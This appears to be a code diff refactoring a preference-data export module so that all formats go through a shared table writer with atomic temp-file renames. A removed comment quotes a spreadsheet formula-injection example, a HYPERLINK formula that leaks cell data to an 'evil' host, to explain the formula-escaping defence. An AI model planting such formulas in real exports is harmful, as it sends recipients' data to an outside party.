@@ -6,21 +6,20 @@ engine/preferences/strength.py), then provenance: comparison_id, source, annotat
 agreement, weight, strengths (who graded how, e.g. "alice=much"), notes (the annotators' rationale
 notes, "name: text" joined by " | "), adjudicated (a lead decided it).
 
-Every format is written to a temp file (or dir) beside the target and renamed
-into place, so a crash or a full disk never leaves a half-written export under
-the final name, and an older export stays intact until the new one is complete.
+Rows go out through the one table writer (engine/files/table_writer.py), into a temp
+file (or dir, engine/files/atomic.py) beside the target that is renamed into place, so
+a crash or a full disk never leaves a half-written export under the final name, and an
+older export stays intact until the new one is complete.
 """
 
 from __future__ import annotations
 
-import contextlib
-import csv
-import json
 from pathlib import Path
 from typing import Any
 
 from duelist.engine.errors import DuelistError
-from duelist.engine.files.tmpfiles import atomic_file
+from duelist.engine.files.atomic import atomic_dir, atomic_file
+from duelist.engine.files.table_writer import TableWriter, arrow_table, formula_safe
 from duelist.engine.preferences.pair import PreferencePair
 
 EXPORT_FORMATS = ("jsonl", "json", "csv", "parquet", "hf")
@@ -71,11 +70,6 @@ def _check_target(out: Path, fmt: str) -> None:
                                "refusing to replace it")
 
 
-def _atomic_file(out: Path) -> contextlib.AbstractContextManager[Path]:
-    """A hidden temp file renamed onto `out`; also deletes ones a killed export left."""
-    return atomic_file(out)
-
-
 def export_pairs(pairs: list[PreferencePair], out: str | Path, fmt: str | None = None) -> str:
     """Write `pairs` to `out`; returns the format used."""
     out = Path(out)
@@ -86,73 +80,35 @@ def export_pairs(pairs: list[PreferencePair], out: str | Path, fmt: str | None =
         if fmt == "hf":
             _write_hf(rows, out)
             return fmt
-        with _atomic_file(out) as tmp:
-            {"jsonl": _write_jsonl, "json": _write_json, "csv": _write_csv,
-             "parquet": _write_parquet}[fmt](rows, tmp)
+        with atomic_file(out) as tmp:
+            # indented JSON, and CSV cells a spreadsheet cannot run as formulas
+            writer = TableWriter(tmp, fmt, COLUMNS, _schema() if fmt == "parquet" else None,
+                                 str(out), json_indent=1, cell=formula_safe)
+            writer.write(rows)
+            writer.close()
     except OSError as exc:
         raise DuelistError(f"{out}: could not write the export ({exc.strerror or exc}); "
                            "nothing was changed") from None
     return fmt
 
 
-def _write_jsonl(rows: list[dict], tmp: Path) -> None:
-    with tmp.open("w", encoding="utf-8") as fh:
-        for r in rows:
-            fh.write(json.dumps(r, ensure_ascii=False))
-            fh.write("\n")
-
-
-def _write_json(rows: list[dict], tmp: Path) -> None:
-    with tmp.open("w", encoding="utf-8") as fh:
-        json.dump(rows, fh, ensure_ascii=False, indent=1)
-        fh.write("\n")
-
-
-def _write_csv(rows: list[dict], tmp: Path) -> None:
-    with tmp.open("w", encoding="utf-8", newline="") as fh:
-        writer = csv.DictWriter(fh, fieldnames=COLUMNS)
-        writer.writeheader()
-        writer.writerows({k: formula_safe(v) for k, v in r.items()} for r in rows)
-
-
-# A spreadsheet runs a cell that starts with one of these as a formula
-# (`=HYPERLINK("http://evil/?"&A1)` leaks data on click; `@SUM(...)`, `+`, `-` likewise;
-# a leading tab or CR hides the prefix). OWASP's advice: prefix such cells with `'`.
-_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
-
-
-def formula_safe(value: object) -> object:
-    """A text cell that a spreadsheet would evaluate, prefixed with `'` so it stays text."""
-    if isinstance(value, str) and value.startswith(_FORMULA_START):
-        return "'" + value
-    return value
-
-
-def _table(rows: list[dict]):
+def _schema() -> Any:
     import pyarrow as pa
 
     types = {"margin": pa.float64(), "comparison_id": pa.int64(), "agreement": pa.float64(),
              "weight": pa.float64(), "adjudicated": pa.bool_()}
-    schema = pa.schema([(name, types.get(name, pa.string())) for name in COLUMNS])
-    return pa.Table.from_pylist(rows, schema=schema)
-
-
-def _write_parquet(rows: list[dict], tmp: Path) -> None:
-    import pyarrow.parquet as pq
-
-    pq.write_table(_table(rows), str(tmp))
+    return pa.schema([(name, types.get(name, pa.string())) for name in COLUMNS])
 
 
 def _write_hf(rows: list[dict], out: Path) -> None:
     # `datasets` costs seconds to import, so only this format pays for it.
     import datasets
-    from duelist.engine.models.model_files import atomic_dir
 
     quiet = datasets.utils.are_progress_bars_disabled()
     datasets.disable_progress_bars()  # no tqdm noise on the CLI's stderr
     try:
         with atomic_dir(out) as tmp:
-            datasets.Dataset(_table(rows)).save_to_disk(str(tmp))
+            datasets.Dataset(arrow_table(rows, COLUMNS, _schema())).save_to_disk(str(tmp))
     finally:
         if not quiet:
             datasets.enable_progress_bars()
